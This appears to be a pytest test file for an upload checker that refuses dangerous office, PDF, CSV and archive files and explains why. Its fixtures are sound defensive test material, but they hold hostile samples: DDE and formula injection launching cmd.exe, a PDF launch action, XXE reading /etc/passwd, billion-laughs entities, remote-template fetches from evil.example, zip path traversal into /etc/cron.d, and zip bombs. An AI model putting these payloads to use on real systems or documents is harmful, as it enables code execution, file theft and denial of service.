"""Files that do more than show what they hold are refused, each with a reason that helps."""

import io
import random
import struct
import time
import zipfile

import pytest
from PIL import Image

from app.core.files import RefusedFileError, sniff
from tests.core.files.office_files import (
    OFFICE,
    SPACES,
    WORD,
    content_types,
    docx,
    opendocument,
    packed,
    paragraph,
    pdf,
    pptx,
    relationships,
    xlsx,
)

COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
OOXML = "application/vnd.openxmlformats-officedocument."
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY b "ha">'
    + "".join(f'<!ENTITY b{n} "&b{n - 1 or ""};&b{n - 1 or ""};">' for n in range(1, 30))
    + "]>"
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'


def rels(kind: str, target: str, mode: str = "External") -> dict[str, str]:
    return {"word/_rels/document.xml.rels": relationships((kind, target, mode))}


def field(*pieces: str) -> str:
    """Return a field of Word whose code is spread over runs."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def computed_field() -> str:
    """Return a field whose name is computed by one inside it, as DDE is hidden from scanners."""
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    code = "<w:r><w:instrText>{}</w:instrText></w:r>"
    return f"<w:p>{begin}{begin}{code.format('QUOTE 68 68 69')}{end}{code.format(' cmd /c calc')}{end}</w:p>"


def cell(formula: str) -> str:
    return f'<c r="A1"><f>{formula}</f><v>0</v></c>'


def odf_link(address: str, element: str = "draw:image") -> str:
    return f'<text:p><{element} xlink:href="{address}"/></text:p>'


HOME = "https://evil.example/x"
MACROS = {
    "vba.docx": docx(more={"word/vbaProject.bin": b"x"}),
    "vba-elsewhere.docx": docx(more={"word/media/VBAPROJECT.BIN": b"x"}),
    "vba-by-relationship.docx": docx(more={"word/_rels/document.xml.rels": relationships(("vbaProject", "p.dat", ""))}),
    "docm-renamed.docx": docx(
        more={"[Content_Types].xml": content_types(("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))}
    ),
    "vba-by-type.xlsx": xlsx(
        more={"[Content_Types].xml": content_types(("/xl/other.dat", "application/vnd.ms-office.vbaProject")), "xl/other.dat": b"x"}
    ),
    "macro-sheet.xlsx": xlsx(more={"xl/macrosheets/sheet1.xml": "<x/>"}),
    "macro-sheet-by-type.xlsx": xlsx(
        more={"[Content_Types].xml": content_types(("/xl/worksheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"))}
    ),
    "basic.odt": opendocument(more={"Basic/Standard/Module1.xml": "<x/>"}),
    "python.ods": opendocument("ods", more={"Scripts/python/a.py": "pass"}),
    "listener.odt": opendocument(body='<office:event-listeners><script:event-listener script:event-name="dom:load"/></office:event-listeners>'),
}  # fmt: skip
LOCKED = {
    "locked.docx": COMPOUND + "EncryptedPackage".encode("utf-16-le"),
    "locked.odt": opendocument(
        more={"META-INF/manifest.xml": f'<manifest:manifest {SPACES}><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>'}
    ),
}  # fmt: skip
CALLING_HOME = {
    "template.docx": docx(more={"word/_rels/settings.xml.rels": relationships(("attachedTemplate", HOME, "External"))}),
    "template-share.docx": docx(more={"word/_rels/settings.xml.rels": relationships(("attachedTemplate", r"file:///\\evil\x.dotm", "External"))}),
    "picture.docx": docx(more=rels("image", HOME)),
    "frame.docx": docx(more=rels("frame", HOME)),
    "part.docx": docx(more=rels("subDocument", HOME)),
    "mode-left-out.docx": docx(more=rels("image", HOME, "")),
    "share.docx": docx(more=rels("image", r"\\evil\share\x.png")),
    "mail-merge.docx": docx(more={"word/_rels/settings.xml.rels": relationships(("mailMergeSource", "file:///C:/x.csv", "External"))}),
    "vml.docx": docx('<w:p><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/x"/></w:pict></w:p>'),
    "include.docx": docx(field(" INCLUDE", 'PICTURE "http://evil.example/x" ')),
    "include-simple.docx": docx(f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{HOME}&quot;"/></w:p>'),
    "slash-share.docx": docx(more=rels("image", r"/\evil\share\x.png", "")),
    "svg.docx": docx(more={"word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{HOME}"/></svg>'}),
    "add-in.docx": docx(more={"_rels/.rels": relationships(("officeDocument", "word/document.xml", ""), ("webextensiontaskpanes", "t.xml", ""))}),
    "book.xlsx": xlsx(more={"xl/externalLinks/_rels/externalLink1.xml.rels": relationships(("externalLinkPath", HOME, "External"))}),
    "link-part.xlsx": xlsx(more={"xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml", ""), ("externalLink", "l.xml", ""))}),
    "connections.xlsx": xlsx(more={"xl/_rels/workbook.xml.rels": relationships(("connections", "connections.xml", ""))}),
    "webservice.xlsx": xlsx(cell("_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A2)")),
    "entity.xlsx": xlsx(cell("W&#69;BSERVICE(A2)")),
    "media.pptx": pptx(more={"ppt/slides/_rels/slide1.xml.rels": relationships(("video", HOME, "External"))}),
    "picture.odt": opendocument(body=odf_link(HOME)),
    "share.odt": opendocument(body=odf_link("//evil/share/x.png")),
    "file.odt": opendocument(body=odf_link("file:///etc/passwd")),
    "section.odt": opendocument(body=odf_link("../secret.odt", "text:section-source")),
    "template.odt": opendocument(more={"meta.xml": f'<office:document-meta {SPACES}><meta:template xlink:href="{HOME}"/></office:document-meta>'}),
    "styles.odt": opendocument(more={"styles.xml": f'<office:document-styles {SPACES}><office:x xlink:href="{HOME}"/></office:document-styles>'}),
    "source.ods": opendocument("ods", f'<table:table table:name="a"><table:table-source xlink:href="{HOME}"/></table:table>'),
    "formula.ods": opendocument("ods", '<table:table table:name="a"><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;x&quot;)"/></table:table-row></table:table>'),
    "other-book.ods": opendocument("ods", "<table:table table:name=\"a\"><table:table-row><table:table-cell table:formula=\"of:='https://evil.example/a.ods'#$Sheet1.A1\"/></table:table-row></table:table>"),
    "movie.odp": opendocument("odp", f'<draw:page draw:name="a"><draw:plugin xlink:href="{HOME}"/></draw:page>'),
}  # fmt: skip
STARTING_PROGRAMS = {
    "dde.docx": docx(field(" DDE", "AUTO c:\\\\windows\\\\cmd.exe ")),
    "dde-deleted.docx": docx("<w:p><w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r></w:p>"),
    "dde-simple.docx": docx('<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>'),
    "dde-computed.docx": docx(computed_field()),
    "dde-header.docx": docx(more={"word/header1.xml": f'<w:hdr xmlns:w="{WORD}">{field("DDE cmd")}</w:hdr>'}),
    "dde-unclosed.docx": docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r></w:p>'),
    "script-link.docx": docx(more=rels("hyperlink", "java\tscript:alert(1)")),
    "handler-link.docx": docx(more=rels("hyperlink", "ms-msdt:/id")),
    "dde.xlsx": xlsx(cell("cmd|'/c calc'!A0")),
    "dde-link.xlsx": xlsx(more={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{"x"}"><ddeLink ddeService="cmd"/></externalLink>'}),
    "call.xlsx": xlsx(cell("CALL(&quot;urlmon&quot;)")),
    "name.xlsx": xlsx(more={"xl/names.xml": "<x><definedName>=EXEC(1)</definedName></x>"}),
    "action.pptx": pptx('<p:sp><a:hlinkClick action="ppaction://program"/></p:sp>'),
    "dde.odt": opendocument(body='<text:dde-connection-decl office:dde-application="soffice"/>'),
    "macro-link.odt": opendocument(body=odf_link("vnd.sun.star.script:x?language=Basic", "text:a")),
    "dde.ods": opendocument("ods", '<table:table table:name="a"><table:table-row><table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)"/></table:table-row></table:table>'),
    "dde.csv": b"name,amount\nx,=cmd|'/c calc'!A1\n",
    "launch.pdf": pdf(catalog="/OpenAction 100 0 R", objects=("<</S/Launch/F(cmd.exe)>>",)),
    "launch-hidden.pdf": pdf(page="/AA<</O<</S/L#61unch/F(cmd.exe)>>>>"),
}  # fmt: skip
EMBEDDING = {
    "ole.docx": docx(more={"word/embeddings/oleObject1.bin": COMPOUND}),
    "ole-by-relationship.docx": docx(more=rels("oleObject", "embeddings/x.dat", "")),
    "ole-renamed.pptx": pptx(more={"ppt/media/image1.png": COMPOUND}),
    "control.docx": docx(more=rels("control", "activeX/activeX1.xml", "")),
    "html.docx": docx(more=rels("aFChunk", "chunk.html", "")),
    "program.docx": docx(more={"word/media/image1.emf": b"MZ\x90\0"}),
    "script.docx": docx(more={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'}),
    "ole.odt": opendocument(body='<draw:object-ole xlink:href="./Object 1"/>'),
    "ole-stream.odt": opendocument(more={"Object 1": COMPOUND}),
    "frame.odt": opendocument(body='<draw:floating-frame xlink:href="x"/>'),
}
DECLARING = {
    "xxe.docx": docx(more={"word/document.xml": OUTSIDE}),
    "xxe.xlsx": xlsx(more={"xl/sharedStrings.xml": OUTSIDE}),
    "xxe-elsewhere.docx": docx(more={"docProps/anything.dat": OUTSIDE}),
    "xxe-utf16.docx": docx(more={"word/header1.xml": OUTSIDE.encode("utf-16")}),
    "laughs.docx": docx(more={"word/document.xml": LAUGHS + "<a>&b29;</a>"}),
    "laughs.odt": opendocument(more={"content.xml": LAUGHS + "<a>&b29;</a>"}),
    "doctype.pptx": pptx(more={"ppt/slides/slide1.xml": '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'}),
}


def png() -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", (4, 4)).save(stream, "PNG")
    return stream.getvalue()


def twice_named() -> bytes:
    stream = io.BytesIO(docx())
    with zipfile.ZipFile(stream, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("word/document.xml", "<other/>")
    return stream.getvalue()


def overlapping() -> bytes:
    """Return an archive whose list names one part twice, as bombs do to unpack it over and over."""
    data = docx(more={"word/a.xml": "<x/>", "word/b.xml": "<x/>"})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        first, second = archive.getinfo("word/a.xml"), archive.getinfo("word/b.xml")
    at = data.rindex(b"word/b.xml") - 4
    assert data[at : at + 4] == struct.pack("<L", second.header_offset)
    return data[:at] + struct.pack("<L", first.header_offset) + data[at + 4 :]


def lying() -> bytes:
    """Return an archive whose part is called otherwise at its own place than in the list."""
    data = docx(more={"word/aaaaa.xml": "<x/>"})
    at = data.index(b"word/aaaaa.xml")
    return data[:at] + b"word/bbbbb.xml" + data[at + 14 :]


POLYGLOTS = {
    "zip-behind.png": png() + docx(),
    "zip-behind.pdf": pdf() + docx(),
    "zip-behind.txt": b"plain text\n" + docx(),
    "html.pdf": b"%PDF-1.7\n<script>alert(1)</script>" + pdf(),
    "more-before.docx": docx()[:300] + docx(),
    "behind.docx": docx() + b"<script>alert(1)</script>",
    "pdf-inside.docx": b"PK\x03\x04%PDF-1.7" + docx(),
}
BOMBS = {
    "ratio.docx": docx(more={"word/media/a.png": b"\0" * 30_000_000}),
    "one-part.docx": docx(more={"word/media/noise.png": random.Random(1).randbytes(400_000), "word/a.xml": b"<x>" + b" " * 8_000_000}),
    "members.docx": docx(more={f"word/media/{number}": b"" for number in range(5_001)}),
    "overlapping.docx": overlapping(),
    "deep.docx": docx(more={"word/a.xml": "<x>" * 5_000 + "</x>" * 5_000}),
}  # fmt: skip
NESTED = {
    "zip.docx": docx(more={"word/media/a.zip": packed({"a": b"x"})}),
    "zip-renamed.xlsx": xlsx(more={"xl/media/a.png": packed({"a": b"x"})}),
    "twice-nested.docx": docx(more={"word/embeddings/a.xlsx": xlsx(more={"xl/embeddings/b.xlsx": xlsx()})}),
    "zip.odt": opendocument(more={"Pictures/a.png": packed({"a": b"x"})}),
}
NAMES = {
    "up.docx": docx(more={"../../etc/cron.d/x": b"x"}),
    "root.docx": docx(more={"/etc/passwd": b"x"}),
    "drive.docx": docx(more={"C:/x": b"x"}),
    "backslash.docx": docx(more={"word\\..\\x": b"x"}),
    "case.docx": docx(more={"word/Document.xml": "<x/>"}),
    "invisible.docx": docx(more={"word/a\u202ex.xml": "<x/>"}),
}


def reason_for(name: str, data: bytes) -> str:
    with pytest.raises(RefusedFileError) as caught:
        sniff(io.BytesIO(data), name)
    return caught.value.message


@pytest.mark.parametrize("name", MACROS)
def test_macros_are_refused_wherever_they_are(app, name: str) -> None:
    assert "macros" in reason_for(name, MACROS[name])


@pytest.mark.parametrize("name", LOCKED)
def test_what_has_a_password_is_refused(app, name: str) -> None:
    assert "password" in reason_for(name, LOCKED[name])


@pytest.mark.parametrize("name", CALLING_HOME)
def test_what_fetches_something_from_elsewhere_is_refused(app, name: str) -> None:
    assert "from elsewhere" in reason_for(name, CALLING_HOME[name])


@pytest.mark.parametrize("name", STARTING_PROGRAMS)
def test_what_starts_a_program_is_refused(app, name: str) -> None:
    assert "starts other programs" in reason_for(name, STARTING_PROGRAMS[name])


@pytest.mark.parametrize("name", EMBEDDING)
def test_embedded_objects_are_refused(app, name: str) -> None:
    assert "embedded object" in reason_for(name, EMBEDDING[name])


@pytest.mark.parametrize("name", DECLARING)
def test_entities_are_refused_in_every_part(app, name: str) -> None:
    assert "XML entities" in reason_for(name, DECLARING[name])


@pytest.mark.parametrize("name", POLYGLOTS)
def test_what_is_two_things_at_once_is_refused(app, name: str) -> None:
    assert "two things" in reason_for(name, POLYGLOTS[name])


@pytest.mark.parametrize("name", BOMBS)
def test_bombs_are_refused(app, name: str) -> None:
    message = reason_for(name, BOMBS[name])
    assert "far too large" in message or "damaged" in message


@pytest.mark.parametrize("name", NESTED)
def test_archives_in_archives_are_refused(app, name: str) -> None:
    assert "another archive" in reason_for(name, NESTED[name])


@pytest.mark.parametrize("name", NAMES)
def test_names_that_lead_elsewhere_are_refused(app, name: str) -> None:
    assert "names inside" in reason_for(name, NAMES[name])


def test_parts_of_one_name_are_refused(app) -> None:
    assert "names inside" in reason_for("a.docx", twice_named())


def test_a_part_that_is_not_where_the_list_says_is_refused(app) -> None:
    assert "damaged" in reason_for("a.docx", lying())


def test_a_link_in_an_archive_is_refused(app) -> None:
    stream = io.BytesIO(docx())
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    assert "names inside" in reason_for("a.docx", stream.getvalue())


def test_a_chart_brings_its_table_unless_that_is_hostile(app) -> None:
    sniff(io.BytesIO(docx(more={"word/embeddings/table.xlsx": xlsx()})), "a.docx")
    hostile = docx(more={"word/embeddings/table.xlsx": xlsx(cell("cmd|'/c calc'!A0"))})
    assert "starts other programs" in reason_for("a.docx", hostile)


def test_old_office_formats_are_told_as_such_whatever_their_name(app) -> None:
    assert "from before 2007" in reason_for("a.docx", COMPOUND)


@pytest.mark.parametrize("name", ["a.txt", "a.md", "a.csv"])
def test_a_text_in_another_encoding_is_told_how_to_be_saved(app, name: str) -> None:
    assert "Save it as UTF-8" in reason_for(name, "a;b\n".encode("utf-16"))


HARMLESS = {
    "a.docx": docx(),
    "linked.docx": docx(more=rels("hyperlink", "https://example.org/page")),
    "mail.docx": docx(more=rels("hyperlink", "mailto:a@example.org")),
    "own-template.docx": docx(more={"word/_rels/settings.xml.rels": relationships(("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm", "External"))}),
    "fields.docx": docx(field("PAGE") + field(" MACROBUTTON NoMacro [Click here]") + field('HYPERLINK "https://example.org"')),
    "nested.docx": docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>' + field("PAGE") + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "words.docx": docx(paragraph("DDEAUTO is how Word used to start programs; INCLUDEPICTURE too")),
    "svg.docx": docx(more={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/png;base64,AA"/></svg>'}),
    "a.xlsx": xlsx(),
    "formulas.xlsx": xlsx(cell("SUM(A1:A2)&amp;&quot;a|b!&quot;&amp;'A|B'!C1")),
    "hyperlink.xlsx": xlsx(cell("HYPERLINK(&quot;https://example.org&quot;)")),
    "a.pptx": pptx(),
    "a.odt": opendocument(),
    "linked.odt": opendocument(body=odf_link("https://example.org", "text:a") + odf_link("Pictures/a.png") + odf_link("#x", "text:a")),
    "own-template.odt": opendocument(more={"meta.xml": f'<office:document-meta {SPACES}><meta:template xlink:href="file:///usr/share/x.ott"/></office:document-meta>'}),
    "a.ods": opendocument("ods"),
    "rows.ods": opendocument("ods", '<table:table table:name="a"><table:table-row><table:table-cell table:formula="of:=SUM({1;2|3;4})"/></table:table-row></table:table>'),
    "a.odp": opendocument("odp"),
    "a.pdf": pdf("one", "two"),
    "a.csv": b"a;b\n=1+2;-3\n",
    "a.md": b"Press | and ! or = at once",
    "a.png": png(),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_what_people_write_is_taken(app, name: str) -> None:
    assert sniff(io.BytesIO(HARMLESS[name]), name).ending == name.rpartition(".")[2]


def test_both_editions_of_the_standard_are_looked_at(app) -> None:
    strict = docx(more=rels("image", HOME))
    assert OFFICE.encode() not in strict  # packed
    body = field("DDE cmd").replace("w:", "x:")
    document = (
        f'<x:document xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main"><x:body>{body}</x:body></x:document>'
    )
    assert "starts other programs" in reason_for("a.docx", docx(more={"word/document.xml": document}))


def test_damaged_and_cut_files_are_refused_with_a_reason(app) -> None:
    whole = docx()
    reasons = {reason_for("a.docx", whole[:size] if size else b"PK\x03\x04") for size in range(0, len(whole), 97)}
    assert reasons == {"This file is damaged. Open it in the program it comes from and save it anew."}


def test_random_damage_never_breaks_the_check(app) -> None:
    chance = random.Random(7)
    taken, refused = 0, 0
    for name, data in (("a.docx", docx()), ("a.odt", opendocument()), ("a.xlsx", xlsx())):
        for _round in range(200):
            damaged = bytearray(data)
            for _place in range(chance.randint(1, 6)):
                damaged[chance.randrange(len(damaged))] = chance.randrange(256)
            try:
                taken += sniff(io.BytesIO(damaged), name).ending == name.rpartition(".")[2]
            except RefusedFileError as error:
                refused += bool(error.message)
    assert taken + refused == 600
    assert refused > 500


def test_a_real_archive_is_read_within_its_time(app) -> None:
    rows = "".join(f'<row r="{n}"><c r="A{n}"><f>SUM(B{n}:C{n})</f><v>{n}</v></c></row>' for n in range(1, 100_000))
    sheet = f'<worksheet xmlns="x"><sheetData>{rows}</sheetData></worksheet>'
    data = xlsx(more={"xl/worksheets/sheet1.xml": sheet})
    began = time.process_time()
    assert sniff(io.BytesIO(data), "a.xlsx").ending == "xlsx"
    assert time.process_time() - began < 10
